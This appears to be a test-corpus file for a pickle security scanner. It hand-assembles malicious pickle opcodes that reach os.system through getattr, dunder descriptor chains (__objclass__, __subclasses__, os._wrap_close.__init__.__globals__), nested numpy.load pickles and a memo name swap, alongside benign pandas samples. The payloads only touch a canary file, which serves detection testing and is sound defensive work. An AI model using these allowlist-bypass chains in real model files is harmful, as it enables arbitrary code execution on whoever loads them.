"""Corpus: method references pickled as ``builtins.getattr(<global>, '<name>')``.

Python pickles every bound and class method so (pandas 3 time zones:
``getattr(zoneinfo.ZoneInfo, '_unpickle')``), and the scanner judges such a call as the global it
resolves to, only when that is an exact allowlist entry. Malicious: the same form reaching
``os.system``, ``numpy.load`` (a nested pickle), a dunder of an allowed class
(``ZoneInfo.__init__``, ``complex.__reduce__``: from there to ``object.__subclasses__`` and
``os._wrap_close.__init__.__globals__['system']``) and a name swapped in the memo. Benign: a
pandas DataFrame with a ``zoneinfo`` time zone, pickled and written by ``to_pickle``.
"""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable
from pathlib import Path

from tests.corpus import Sample, file_sample, system_call

_VICTIM_PICKLE = "import pickle\npickle.load(open(ARTIFACT, 'rb'))\n"
_GETATTR = b"cbuiltins\ngetattr\n"


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _getattr(base: bytes, name: bytes) -> bytes:
    """``getattr(<base>, <name>)``: ``name`` is the opcodes that push it."""
    return _GETATTR + base + name + b"\x86R"


def _call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


def _system_from_descriptor(descriptor: bytes, canary: Path) -> bytes:
    """From a slot or method descriptor of ``object`` to ``os.system('touch <canary>')``:
    ``__objclass__`` is ``object``, whose ``__subclasses__()`` holds ``os._wrap_close``,
    whose ``__init__.__globals__`` are the os module's."""
    obj = _getattr(descriptor, _text("__objclass__"))
    subclasses = _call(_getattr(obj, _text("__subclasses__"))) + b"q\x010"  # memo 1, popped
    names = _call(
        b"cbuiltins\nmap\n", _GETATTR, b"h\x01", _call(b"citertools\nrepeat\n", _text("__name__"))
    )
    by_name = _call(b"cbuiltins\ndict\n", _call(b"cbuiltins\nzip\n", names, b"h\x01"))
    wrap_close = _call(_getattr(by_name, _text("get")), _text("_wrap_close"))
    globals_ = _getattr(_getattr(wrap_close, _text("__init__")), _text("__globals__"))
    system = _call(_getattr(globals_, _text("get")), _text("system"))
    return b"\x80\x02" + subclasses + _call(system, _text(f"touch {canary}")) + b"."


def _getattr_os_system(canary: Path) -> bytes:
    os_module = b"cposixpath\nos\n"  # the os module, as posixpath imports it
    return (
        b"\x80\x02" + _call(_getattr(os_module, _text("system")), _text(f"touch {canary}")) + b"."
    )


def _getattr_zoneinfo_init(canary: Path) -> bytes:
    return _system_from_descriptor(_getattr(b"czoneinfo\nZoneInfo\n", _text("__init__")), canary)


def _getattr_complex_reduce(canary: Path) -> bytes:
    return _system_from_descriptor(_getattr(b"cbuiltins\ncomplex\n", _text("__reduce__")), canary)


#: The numpy module: numpy.ma.core imports it as np.
_NUMPY = b"cnumpy.ma.core\nnp\n"


def _numpy_load(name: bytes) -> Callable[[Path, Path], Path]:
    """``getattr(numpy, <name>)(payload, None, True)``: numpy.load with allow_pickle of a
    payload pickle written beside the artifact."""

    def build(directory: Path, canary: Path) -> Path:
        directory.mkdir(parents=True, exist_ok=True)
        payload = directory / "payload.pkl"
        payload.write_bytes(system_call(canary))
        path = directory / "model.pkl"
        load = _getattr(_NUMPY, name)
        path.write_bytes(b"\x80\x02" + _call(load, _text(str(payload)), b"N", b"\x88") + b".")
        return path

    return build


# The name is put in memo slot 0 as 'float64' (a harmless attribute), then the slot is
# overwritten with 'load' before getattr fetches it.
_SWAPPED_NAME = _text("float64") + b"q\x000" + _text("load") + b"q\x000" + b"h\x00"

_RULES = ("MLS-PKL-001", "MLS-PKL-002")


def _sample(name: str, build: Callable[[Path, Path], Path], technique: str) -> Sample:
    return Sample(name, build, True, _RULES, technique, _VICTIM_PICKLE, ("numpy",))


def _frame_zoneinfo(writer: str) -> Callable[[Path, Path], Path]:
    def build(directory: Path, canary: Path) -> Path:
        from tests.conftest import require

        require("pandas")
        import pandas as pd

        directory.mkdir(parents=True, exist_ok=True)
        path = directory / "frame.pkl"
        frame = pd.DataFrame({"when": pd.date_range("2024-01-01", periods=3, tz="Europe/Paris")})
        if writer == "to_pickle":
            frame.to_pickle(path)
        else:
            path.write_bytes(pickle.dumps(frame, protocol=int(writer)))
        return path

    return build


SAMPLES: list[Sample] = [
    file_sample(
        "pickle-getattr-os-system",
        _getattr_os_system,
        "getattr(os, 'system')(cmd), the os module imported as posixpath.os",
        _VICTIM_PICKLE,
    ),
    file_sample(
        "pickle-getattr-zoneinfo-init-to-os-system",
        _getattr_zoneinfo_init,
        "getattr(zoneinfo.ZoneInfo, '__init__') then __objclass__, __subclasses__() and "
        "os._wrap_close.__init__.__globals__['system']",
        _VICTIM_PICKLE,
    ),
    file_sample(
        "pickle-getattr-allowed-class-reduce-to-os-system",
        _getattr_complex_reduce,
        "getattr(builtins.complex, '__reduce__') (an allowed class) then __objclass__, "
        "__subclasses__() and os._wrap_close.__init__.__globals__['system']",
        _VICTIM_PICKLE,
    ),
    _sample(
        "pickle-getattr-numpy-load",
        _numpy_load(_text("load")),
        "getattr(numpy, 'load')(payload, None, True): numpy.load of a pickle beside it",
    ),
    _sample(
        "pickle-getattr-memo-swapped-name",
        _numpy_load(_SWAPPED_NAME),
        "getattr(numpy, <memo slot written 'float64', then overwritten with 'load'>)",
    ),
    Sample(
        "pandas-dataframe-zoneinfo-tz-pickled",
        _frame_zoneinfo("5"),
        False,
        technique="a DataFrame with a Europe/Paris column (getattr(ZoneInfo, '_unpickle')), "
        "pickle.dumps protocol 5",
        requires=("pandas",),
    ),
    Sample(
        "pandas-dataframe-zoneinfo-tz-to-pickle",
        _frame_zoneinfo("to_pickle"),
        False,
        technique="a DataFrame with a Europe/Paris column, DataFrame.to_pickle",
        requires=("pandas",),
    ),
]
